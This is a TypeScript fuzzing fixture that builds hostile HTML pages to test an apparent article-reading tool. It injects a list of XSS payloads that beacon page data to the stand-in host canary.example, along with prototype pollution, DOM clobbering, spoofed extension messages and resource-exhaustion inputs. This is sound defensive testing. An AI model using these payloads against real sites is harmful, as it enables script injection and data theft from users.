import { randomOf, type Random } from '../fuzz/mutate';
import { sitePages } from '../support/site-pages';

/** A page that attacks who reads it. It asks for nothing by itself, and its own scripts never sound the canary. */
export interface HostilePage {
  readonly url: string;
  readonly html: string;
  /** What it attacks with. */
  readonly attacks: readonly string[];
}

/** Only what was text or data for the page can sound it: it must never run, anywhere. */
export const CANARY_HOST = 'canary.example';
const CANARY = `globalThis.canary=1;new Image().src='https://${CANARY_HOST}/'+location.host`;

const escape = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** Code as text, in the forms in which it gets past filters. */
const PAYLOADS: readonly string[] = [
  `<script>${CANARY}</script>`,
  `<img src="https://${CANARY_HOST}/i" onerror="${CANARY}">`,
  `"><svg onload="${CANARY}">`,
  `<iframe srcdoc="<script>${CANARY}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CANARY}>">`,
  `</title></textarea></noscript><script>${CANARY}</script>`,
  `{{constructor.constructor("${CANARY}")()}}`,
  `\${${CANARY}}`,
  `<a href="javascript:${CANARY}">Read on</a>`,
  `<style>@import "https://${CANARY_HOST}/s";</style>`,
  `<link rel="preload" as="image" href="https://${CANARY_HOST}/p">`,
  `javascript:${CANARY}`,
  `data:text/html,<script>${CANARY}</script>`,
];
const TURNS = ['\u202E', '\u2066', '\u200B', '\uFEFF', '\u0000', '\u{E0041}'];
const NAMES =
  'querySelectorAll getElementById documentElement createTreeWalker createRange createElement textContent childNodes children attributes localName title head body baseURI defaultView cookie __proto__ constructor hasOwnProperty toString'.split(
    ' ',
  );

type Attack = (html: string, random: Random) => string;

const oneOf = <T>(all: readonly T[], random: Random): T => {
  const [first] = all;
  const found = all[random(all.length)] ?? first;
  if (found === undefined) throw new Error('Nothing to choose from');
  return found;
};

/** Puts something where an element ends or begins, after the head. */
function put(html: string, more: string, random: Random): string {
  const body = Math.max(0, html.indexOf('<body'));
  const from = html.indexOf('<', body + 6 + random(Math.max(1, html.length - body)));
  const at = from < 0 ? html.length : from;
  return html.slice(0, at) + more + html.slice(at);
}

const inHead = (html: string, more: string): string =>
  html.includes('</head>') ? html.replace('</head>', () => `${more}</head>`) : more + html;

/** Changes some of the texts between tags, scripts and styles left out. */
function texts(html: string, random: Random, change: (text: string) => string): string {
  let within = '';
  return html.replaceAll(/<(\/?[a-z][\w-]*)[^>]*>|[^<]+/gi, (piece, tag: string | undefined) => {
    if (tag !== undefined) {
      const name = tag.toLowerCase();
      if (/^\/?(?:script|style|template)$/.test(name)) within = name.startsWith('/') ? '' : name;
      return piece;
    }
    return within === '' && piece.trim().length > 3 && random(3) === 0 ? change(piece) : piece;
  });
}

const script = (code: string): string => `<script>${code}</script>`;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'code as text': (html, random) =>
    texts(html, random, (text) => `${text} ${escape(oneOf(PAYLOADS, random))}`),
  'code in attributes': (html, random) =>
    html.replaceAll(/ (title|alt|datetime|content|data-[\w-]+)="/g, (attribute) =>
      random(3) === 0 ? `${attribute}${escape(oneOf(PAYLOADS, random))}` : attribute,
    ),
  'code in addresses': (html, random) =>
    html.replaceAll(/ href="[^"]*"/g, (whole) =>
      random(3) === 0
        ? ` href="${escape(oneOf([`javascript:${CANARY}`, `java\nscript:${CANARY}`, `data:text/html,<script>${CANARY}</script>`, `https://user:pw@${CANARY_HOST}/`, `blob:https://${CANARY_HOST}/1`], random))}"`
        : whole,
    ),
  'code in data': (html, random) => {
    const told = JSON.stringify({
      '@type': 'NewsArticle',
      __proto__: null,
      headline: oneOf(PAYLOADS, random),
      author: { name: oneOf(PAYLOADS, random) },
      publisher: { name: oneOf(PAYLOADS, random) },
      url: `javascript:${CANARY}`,
    }).replace('{', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},');
    return inHead(
      html,
      `<script type="application/ld+json">${told.replaceAll('<', String.raw`\u003c`)}</script>`,
    );
  },
  'signs that turn text': (html, random) =>
    texts(html, random, (text) => `${oneOf(TURNS, random)}${text}${oneOf(TURNS, random)}`),
  'names of properties': (html, random) => {
    const name = oneOf(NAMES, random);
    return put(
      html,
      `<form id="${name}" name="${name}"><input name="${oneOf(NAMES, random)}"><input name="${oneOf(NAMES, random)}"></form><img name="${name}"><a id="${name}"></a>`,
      random,
    );
  },
  'another world of prototypes': (html) =>
    inHead(
      html,
      script(
        `for (const name of ['map','filter','slice','includes']) Array.prototype[name] = () => { throw new Error('taken'); }; Object.prototype.polluted = 1; Element.prototype.getAttribute = () => 'taken'; JSON.parse = () => 'taken'; Node.prototype.textContent;`,
      ),
    ),
  'spoofed messages': (html) =>
    put(
      html,
      script(
        `for (const call of ['eraseLibrary','saveSettings','storySeen','read-again']) { postMessage({ call, argument: null }, '*'); document.dispatchEvent(new CustomEvent(call, { detail: { call } })); try { chrome.runtime.sendMessage({ call }); } catch {} }`,
      ),
      () => html.length,
    ),
  'shadow roots': (html, random) =>
    put(
      html,
      script(
        `{ let host = document.createElement('div'); document.documentElement.append(host); for (let i = 0; i < ${20 + random(200)}; i += 1) { const root = host.attachShadow({ mode: ${random(2) === 0 ? "'open'" : "'closed'"} }); host = document.createElement('div'); root.append(host, 'A headline down here that nobody sees'); } }`,
      ),
      random,
    ),
  'a wall of text': (html, random) =>
    put(
      html,
      `<p>${oneOf(['a '.repeat(200_000), '('.repeat(50_000), '"'.repeat(100_000), 'By A, '.repeat(30_000), '1,'.repeat(80_000)], random)}</p>`,
      random,
    ),
  'deep markup': (html, random) =>
    put(html, oneOf(['<div>', '<ul><li>', '<span>', '<section>'], random).repeat(400), random),
  'a storm of changes': (html) =>
    html +
    script(
      `{ let left = 400; const storm = () => { const p = document.createElement('p'); p.textContent = 'Change ' + left; (document.body ?? document.documentElement).append(p); if (left % 2) p.remove(); if (left --> 0) setTimeout(storm, 1); }; storm(); }`,
    ),
  'false times': (html, random) =>
    put(
      html,
      oneOf(
        [
          '<time datetime="+275760-09-13T00:00:00Z">in 300000 years</time>',
          `<time datetime="${'9'.repeat(300)}">now</time>`,
          '<meta property="article:published_time" content="1e309">',
          '<time datetime="2022-02-31T25:61:61Z">31 February</time>',
        ],
        random,
      ),
      random,
    ),
  'cut short': (html, random) => html.slice(0, 200 + random(html.length)),
};

const NAMES_OF_ATTACKS = Object.keys(ATTACKS);

/** The page of a number: one of our pages in a site's markup, with one to four attacks put in. The same for the same seed. */
export function hostilePage(seed: number, number: number): HostilePage {
  const random = randomOf(seed * 100_003 + number);
  const { html, expected } = oneOf(sitePages, random);
  // Every kind comes as often as any other, whatever the seed.
  const first = NAMES_OF_ATTACKS[number % NAMES_OF_ATTACKS.length] ?? '';
  const more = Array.from({ length: random(4) }, () => oneOf(NAMES_OF_ATTACKS, random));
  const attacks = [...new Set([first, ...more])];
  const url = new URL(expected.url);
  url.protocol = 'https:';
  url.searchParams.set('hostile', String(number));
  return {
    url: url.href,
    html: attacks.reduce((page, name) => ATTACKS[name]?.(page, random) ?? page, html),
    attacks,
  };
}
